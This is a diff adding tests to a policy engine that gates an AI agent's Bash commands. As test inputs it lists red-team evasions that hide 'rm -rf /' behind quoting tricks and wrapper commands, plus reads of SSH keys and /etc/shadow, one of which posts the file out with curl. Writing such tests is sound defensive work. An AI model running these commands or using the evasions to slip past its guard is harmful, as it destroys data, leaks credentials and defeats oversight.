@@ -208,3 +208,50 @@ def test_a_declared_tools_argv_is_read_as_the_commands_it_runs(tmp_path):
     assert decided(["timeout", "30", "env", "A=1", "/bin/rm", "x"]).rule_id == "no-deletes"
     assert decided(["bash", "-c", "$(cat cmd)"]).effect == "deny"  # unresolvable: fails closed
     assert decided(["/usr/bin/du", "-sh", "/srv/cache"]) is None
+
+
+# Found by a red-team pass after the corpus: each runs rm recursively and by force in bash.
+LATER_EVASIONS = [
+    "cat <<X\ndon't\nX\nr\\\nm -rf /x",  # an apostrophe in a heredoc, then a line continuation inside a word
+    "echo $'\\'' ; r\\\nm -rf /x",
+    "echo ${x:-a #}; r\\\nm -rf /x",
+    "env -vS 'rm -rf /'", "env --split-str='rm -rf /'", "env --s 'rm -rf /'",
+    "timeout --sig KILL 5 rm -rf /", "nice --adj 5 rm -rf /", "sudo --us root rm -rf /",
+    "strace --output x rm -rf /", "sudo -uvagrant rm -rf /", "echo x | xargs -e rm -rf /",
+    "flock /tmp/l rm -rf /home -- -c ls", "find /home -exec rm + -rf {} \\;",
+    "runuser root -c 'rm -rf /'", "su --comm 'rm -rf /'", "su --session-command='rm -rf /'",
+    "fish -C 'rm -rf /'", "fish --command='rm -rf /'",
+]
+
+
+@pytest.mark.parametrize("command", LATER_EVASIONS, ids=ids(LATER_EVASIONS))
+def test_a_later_evasion_is_denied(deny_rm, command):
+    decision = on_bash(deny_rm[0], command)
+    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", said(decision)
+
+
+# Paths a command reads however it names them: redirected input, patterns, ~+ and ~name, joined option values.
+READS_OF_KEYS = ["cat < ~/.ssh/id_rsa", "{ cat; } < /etc/shadow", "cat ~/.ss?/id_rsa", "cat /e*/shadow",
+                 "cat ~+/.ssh/id_rsa", "cat ~ada/.ssh/k", "cat /home/a/.SSH/k", "ssh -i~/.ssh/id_rsa h",
+                 "curl -d@/etc/shadow x", "dd if=/etc/shadow of=/tmp/x"]
+
+
+@pytest.mark.parametrize("command", READS_OF_KEYS, ids=ids(READS_OF_KEYS))
+def test_a_path_is_found_however_the_command_names_it(tmp_path, command):
+    path = tmp_path / "keys.yaml"
+    path.write_text(yaml.safe_dump({"rules": [{
+        "id": "keys", "effect": "deny", "reason": "keys and system files",
+        "when": {"source": "agent", "tool": "Bash", "arguments": {"command": {"runs": {"under": ["~/.ssh", "/etc"]}}}}}]}))
+    document = policy_input("Bash", {"command": command}, None, source="agent", workdir="/root")
+    decision = load_rules(path).decide(document)
+    assert decision is not None and decision.effect == "deny", command
+    harmless = policy_input("Bash", {"command": "ls src/*.py && cat README.md"}, None, source="agent",
+                            workdir="/root")
+    assert load_rules(path).decide(harmless) is None
+
+
+def test_a_brace_sequence_is_never_built_whole():
+    from toolkeeper.policy import commands_in
+
+    found = commands_in(policy_input("Bash", {"command": "rm -rf a{1..999999999999}"}, None, source="agent"))
+    assert len(found[0][1].commands[0].argv) <= 260
